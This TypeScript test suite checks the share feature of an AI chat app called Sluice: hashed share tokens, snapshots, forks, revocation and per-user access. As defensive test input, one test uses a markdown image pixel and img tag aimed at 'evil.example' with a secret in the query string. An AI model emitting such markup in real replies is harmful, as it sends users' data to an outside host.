import { createHash } from 'node:crypto';
import { mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, describe, expect, inject, it } from 'vitest';
import type { Conversation, StoredEvents } from '@/lib/server/store/types';
import type { CreatedShare, ForkedShare, ShareSummary } from '@/lib/api/shares';
import { base, postChat, readChat, storedReply, user } from './support/http';
import { startNextServer, type RunningServer } from './support/next-server';

/** Shares (issue 40, point 4): immutable snapshots behind a hashed random link, a plain 404 for anything else. */

const json = { 'content-type': 'application/json' };
const UNKNOWN = `/s/${'A'.repeat(43)}`;

async function chat(origin: string, text: string, headers: Record<string, string> = {}, conversationId?: string) {
  const response = await fetch(`${origin}/api/chat`, {
    method: 'POST',
    headers: { ...json, ...headers },
    body: JSON.stringify({
      provider: 'sim-responses',
      model: 'sim-echo',
      messages: user(text),
      ...(conversationId ? { conversationId } : {}),
    }),
  });
  expect(response.status).toBe(200);
  await readChat(response);
  return response.headers.get('x-conversation-id')!;
}

async function share(origin: string, body: Record<string, unknown>, headers: Record<string, string> = {}) {
  return fetch(`${origin}/api/shares`, { method: 'POST', headers: { ...json, ...headers }, body: JSON.stringify(body) });
}

async function created(origin: string, body: Record<string, unknown>, headers: Record<string, string> = {}) {
  const response = await share(origin, body, headers);
  expect(response.status).toBe(201);
  return (await response.json()) as CreatedShare;
}

const page = async (origin: string, path: string, headers: Record<string, string> = {}) => {
  const response = await fetch(`${origin}${path}`, { headers });
  return { status: response.status, text: await response.text(), type: response.headers.get('content-type') };
};

const escapeHtml = (text: string) =>
  text.replace(/[&<>"']/g, (c) => ({ '&': '&amp;', '<': '&lt;', '>': '&gt;', '"': '&quot;', "'": '&#39;' })[c]!);

/** Every address an attribute of the page's tags names (text that reads like a tag is escaped, no tag): all must be this origin's. */
const addresses = (html: string) =>
  [...html.matchAll(/<[a-z][^>]*>/gi)].flatMap(([tag]) =>
    [
      ...tag.matchAll(/\s(?:src|href|action|srcset|poster|formaction|data|background)\s*=\s*(?:"([^"]*)"|'([^']*)'|([^\s>]+))/gi),
    ].map((m) => m[1] ?? m[2] ?? m[3]!),
  );

describe('shares over HTTP (SLUICE_AUTH=none)', () => {
  it('snapshots a conversation with its raw events and figures, unchanged by what its source does later', async () => {
    const hostile =
      'Look ![pixel](https://evil.example/p.png?c=secret) and [click](https://evil.example/x) <img src="https://evil.example/i.png">';
    const id = await chat(base, hostile);
    const reply = await storedReply(id);
    expect(reply.text).toContain('evil.example');
    const made = await created(base, { kind: 'conversation', id });

    // At least 128 bits: 32 random bytes, base64url; the link is the page's path.
    expect(made.token).toMatch(/^[A-Za-z0-9_-]{43}$/);
    expect(Buffer.from(made.token, 'base64url').length * 8).toBeGreaterThanOrEqual(128);
    expect(made.url).toBe(`/s/${made.token}`);
    expect(made).toMatchObject({ kind: 'conversation', signedInOnly: false, revoked: false });

    const shown = await page(base, made.url);
    expect(shown.status).toBe(200);
    expect(shown.type).toContain('text/html');
    // The page names nothing of another origin: no image, link, stylesheet or form goes elsewhere.
    const urls = addresses(shown.text);
    expect(urls.length).toBeGreaterThan(0);
    for (const url of urls) expect(url, url).toMatch(/^(\/(?!\/)|#)/);
    expect(shown.text).not.toMatch(/<script|<img|<iframe/i);
    expect(shown.text).toContain('evil.example'); // as text, to read
    // Each raw event line of the reply, exactly, with its time.
    const events = (await (await fetch(`${base}/api/conversations/${id}/messages/${reply.id}/events`)).json()) as StoredEvents;
    expect(events.items.length).toBeGreaterThan(3);
    for (const item of events.items) expect(shown.text).toContain(escapeHtml(item.raw));
    expect(shown.text).toContain('Raw events');
    // A visitor reads someone else's turns: named as the user's, not the visitor's own.
    expect(shown.text).toContain('<h2 class="share-role">User</h2>');
    expect(shown.text).not.toContain('>You<');
    expect(shown.text).toMatch(/<dt>TTFT<\/dt>/);

    // Its source changes (a reply, a rename, a delete): the share stays as it was, byte for byte.
    await chat(base, 'a later turn', {}, id);
    await storedReply(id, (m) => m.status !== 'streaming' && (m as { text?: string }).text === 'a later turn');
    await fetch(`${base}/api/conversations/${id}`, {
      method: 'PATCH',
      headers: json,
      body: JSON.stringify({ title: 'Renamed later' }),
    });
    expect((await page(base, made.url)).text).toBe(shown.text);
    expect((await fetch(`${base}/api/conversations/${id}`, { method: 'DELETE' })).status).toBe(204);
    expect((await page(base, made.url)).text).toBe(shown.text);

    // Listed for its owner, without its token.
    const listed = (await (await fetch(`${base}/api/shares`)).json()) as { shares: ShareSummary[] };
    const mine = listed.shares.find((s) => s.id === made.id)!;
    expect(mine).toEqual({
      id: made.id,
      kind: 'conversation',
      title: made.title,
      createdAt: made.createdAt,
      signedInOnly: false,
      revoked: false,
    });
    expect(JSON.stringify(listed)).not.toContain(made.token);

    // A fork is a new conversation of the caller's, built from the snapshot, with the logs.
    const forked = await fetch(`${base}/api/shares/fork`, {
      method: 'POST',
      headers: json,
      body: JSON.stringify({ token: made.token }),
    });
    expect(forked.status).toBe(201);
    const fork = (await forked.json()) as ForkedShare;
    expect(fork.url).toBe(`/c/${fork.id}`);
    const copy = (await (await fetch(`${base}/api/conversations/${fork.id}`)).json()) as Conversation;
    expect(copy.messages.map((m) => m.role)).toEqual(['user', 'assistant']);
    expect((copy.messages[1] as { text: string }).text).toBe(reply.text);
    const copiedEvents = (await (
      await fetch(`${base}/api/conversations/${fork.id}/messages/${copy.messages[1]!.id}/events`)
    ).json()) as StoredEvents;
    expect(copiedEvents.items).toEqual(events.items);
    // The fork continues like any conversation.
    await chat(base, 'continued', {}, fork.id);
    await storedReply(fork.id, (m) => m.status !== 'streaming' && (m as { text?: string }).text === 'continued');

    // The page's own form forks too (303 to the new chat); from another origin it is refused.
    const viaForm = await fetch(`${base}${made.url}/fork`, { method: 'POST', redirect: 'manual', headers: { origin: base } });
    expect(viaForm.status).toBe(303);
    expect(viaForm.headers.get('location')).toMatch(/^\/c\/[0-9a-f-]{36}$/);
    const forged = await fetch(`${base}${made.url}/fork`, {
      method: 'POST',
      redirect: 'manual',
      headers: { origin: 'https://evil.example' },
    });
    expect(forged.status).toBe(403);
    // A link to the fork forks nothing without the page's own post before it: it is the share's page.
    const linked = await fetch(`${base}${made.url}/fork`, { redirect: 'manual' });
    expect(linked.status).toBe(303);
    expect(linked.headers.get('location')).toBe(made.url);

    // Revoked: the same 404 as a link that never was, byte for byte.
    const unknown = await page(base, UNKNOWN);
    expect(unknown.status).toBe(404);
    expect((await fetch(`${base}/api/shares/${made.id}`, { method: 'DELETE' })).status).toBe(204);
    const revoked = await page(base, made.url);
    expect(revoked).toEqual(unknown);
    expect(await page(base, '/s/not-a-token')).toEqual(unknown);
    const after = (await (await fetch(`${base}/api/shares`)).json()) as { shares: ShareSummary[] };
    expect(after.shares.find((s) => s.id === made.id)!.revoked).toBe(true);
    // A revoked share cannot be forked either.
    const late = await fetch(`${base}/api/shares/fork`, {
      method: 'POST',
      headers: json,
      body: JSON.stringify({ token: made.token }),
    });
    expect(late.status).toBe(404);
  });

  it('shares a compare session and a diff; refuses what does not exist, and a fork of a diff', async () => {
    const sessionResponse = await fetch(`${base}/api/compares`, {
      method: 'POST',
      headers: json,
      body: JSON.stringify({ title: 'Two panes' }),
    });
    expect(sessionResponse.status).toBe(201);
    const session = (await sessionResponse.json()) as { id: string };
    const panes: string[] = [];
    for (const [pane, text] of ['left side', 'right side'].entries()) {
      const response = await postChat({
        provider: 'sim-responses',
        model: 'sim-echo',
        messages: user(text),
        compare: { id: session.id, pane },
      });
      expect(response.status).toBe(200);
      await readChat(response);
      panes.push(response.headers.get('x-conversation-id')!);
    }
    const [left, right] = (await Promise.all(panes.map((p) => storedReply(p)))) as [
      Awaited<ReturnType<typeof storedReply>>,
      Awaited<ReturnType<typeof storedReply>>,
    ];
    const compare = await created(base, { kind: 'compare', id: session.id, expiresInDays: 7 });
    expect(Date.parse(compare.expiresAt!) - Date.parse(compare.createdAt)).toBeGreaterThan(6.9 * 86_400_000);
    const compareView = await page(base, compare.url);
    expect(compareView.text).toContain('left side');
    expect(compareView.text).toContain('right side');
    expect(compareView.text).toContain('Pane 2');
    const compareFork = await fetch(`${base}/api/shares/fork`, {
      method: 'POST',
      headers: json,
      body: JSON.stringify({ token: compare.token }),
    });
    const forkedSession = (await compareFork.json()) as ForkedShare;
    expect(forkedSession.kind).toBe('compare');
    const copied = (await (await fetch(`${base}/api/compares/${forkedSession.id}`)).json()) as { panes: Conversation[] };
    expect(copied.panes.map((p) => (p.messages[1] as { text: string }).text)).toEqual(['left side', 'right side']);

    const diff = await created(base, { kind: 'diff', a: left.id, b: right.id });
    const diffView = await page(base, diff.url);
    expect(diffView.text).toContain('Reply A');
    expect(diffView.text).toContain('right side');
    expect(diffView.text).not.toContain('Fork into my conversations');
    const diffFork = await fetch(`${base}/api/shares/fork`, {
      method: 'POST',
      headers: json,
      body: JSON.stringify({ token: diff.token }),
    });
    expect(diffFork.status).toBe(409);

    const missing = '0190a000-0000-7000-8000-000000000000';
    expect((await share(base, { kind: 'conversation', id: missing })).status).toBe(404);
    expect((await share(base, { kind: 'diff', a: left.id, b: missing })).status).toBe(404);
    expect((await share(base, { kind: 'conversation' })).status).toBe(400);
    expect((await fetch(`${base}/api/shares/${missing}`, { method: 'DELETE' })).status).toBe(404);
  });
});

describe('shares across users and restarts (SLUICE_AUTH=proxy, trusted headers)', () => {
  let dataDir: string | undefined;
  let server: RunningServer | undefined;
  afterAll(async () => {
    await server?.stop();
    if (dataDir) rmSync(dataDir, { recursive: true, force: true });
  });

  it('stores only the hash, ends expired and signed-in-only links in the same 404, and keeps each user to their own', async () => {
    const config = inject('configPath');
    dataDir = mkdtempSync(join(tmpdir(), 'sluice-data-shares-'));
    // First without sign-in: the local user shares three snapshots.
    server = await startNextServer({ SLUICE_CONFIG: config, SLUICE_DATA_DIR: dataDir });
    const id = await chat(server.origin, 'shared before sign-in');
    await storedReply(id, undefined, server.origin);
    const open = await created(server.origin, { kind: 'conversation', id });
    const expiring = await created(server.origin, { kind: 'conversation', id, expiresInDays: 1 });
    const members = await created(server.origin, { kind: 'conversation', id, signedInOnly: true });
    expect((await page(server.origin, members.url)).status).toBe(200); // everyone is the local user
    await server.stop();

    // The database holds each token's SHA-256 and never the token.
    const { PGlite } = await import('@electric-sql/pglite');
    const db = new PGlite(dataDir);
    const { rows } = await db.query<{ id: string; token_hash: string; row: string }>(
      'select id, token_hash, s::text as row from shares s',
    );
    expect(rows).toHaveLength(3);
    for (const share of [open, expiring, members]) {
      const row = rows.find((r) => r.id === share.id)!;
      expect(row.token_hash).toBe(createHash('sha256').update(share.token).digest('hex'));
      for (const r of rows) expect(r.row).not.toContain(share.token);
    }
    // The expiring one's day has passed.
    await db.query(`update shares set expires_at = now() - interval '1 minute' where id = $1`, [expiring.id]);
    await db.close();

    server = await startNextServer({
      SLUICE_CONFIG: config,
      SLUICE_DATA_DIR: dataDir,
      SLUICE_AUTH: 'proxy',
      SLUICE_AUTH_USER_HEADER: 'x-test-user',
      SLUICE_TRUSTED_PROXIES: '127.0.0.1',
    });
    const origin = server.origin;
    const alice = { 'x-test-user': 'alice' };
    const bob = { 'x-test-user': 'bob' };
    const unknown = await page(origin, UNKNOWN);
    expect(unknown.status).toBe(404);
    expect(await page(origin, expiring.url)).toEqual(unknown);
    // Signed-in only: a visitor without a sign-in gets the same 404; a signed-in one the page.
    // Refused by an API route first: the process's identifier (and the error class it throws)
    // is then that route's bundle's, not the share page's, which must still know it (a 500 did not).
    expect((await fetch(`${origin}/api/shares`)).status).toBe(401);
    expect(await page(origin, members.url)).toEqual(unknown);
    // The share page's fork, signed out: the sign-in first, which comes back to the fork (behind a
    // signing proxy nothing is remembered: Sluice signs nobody in itself).
    const formSignedOut = await fetch(`${origin}${open.url}/fork`, { method: 'POST', redirect: 'manual', headers: { origin } });
    expect(formSignedOut.status).toBe(303);
    expect(formSignedOut.headers.get('location')).toBe(`/sign-in?next=${encodeURIComponent(`${open.url}/fork`)}`);
    expect(formSignedOut.headers.get('set-cookie')).toBeNull();
    expect((await page(origin, members.url, alice)).status).toBe(200);
    expect((await page(origin, open.url)).status).toBe(200);

    // Forking needs a sign-in; alice's fork is hers.
    const anonymous = await fetch(`${origin}/api/shares/fork`, {
      method: 'POST',
      headers: json,
      body: JSON.stringify({ token: open.token }),
    });
    expect(anonymous.status).toBe(401);
    const forked = await fetch(`${origin}/api/shares/fork`, {
      method: 'POST',
      headers: { ...json, ...alice },
      body: JSON.stringify({ token: open.token }),
    });
    expect(forked.status).toBe(201);
    const fork = (await forked.json()) as ForkedShare;

    // Alice shares her fork; bob can neither share it, see her share in his list, nor revoke it.
    const hers = await created(origin, { kind: 'conversation', id: fork.id }, alice);
    expect((await share(origin, { kind: 'conversation', id: fork.id }, bob)).status).toBe(404);
    const bobs = (await (await fetch(`${origin}/api/shares`, { headers: bob })).json()) as { shares: ShareSummary[] };
    expect(bobs.shares).toEqual([]);
    expect((await fetch(`${origin}/api/shares/${hers.id}`, { method: 'DELETE', headers: bob })).status).toBe(404);
    expect((await page(origin, hers.url)).status).toBe(200);
    const alices = (await (await fetch(`${origin}/api/shares`, { headers: alice })).json()) as { shares: ShareSummary[] };
    expect(alices.shares.map((s) => s.id)).toEqual([hers.id]);
    expect((await fetch(`${origin}/api/shares`)).status).toBe(401);
    expect((await fetch(`${origin}/api/shares/${hers.id}`, { method: 'DELETE', headers: alice })).status).toBe(204);
    expect(await page(origin, hers.url)).toEqual(unknown);
  });
});
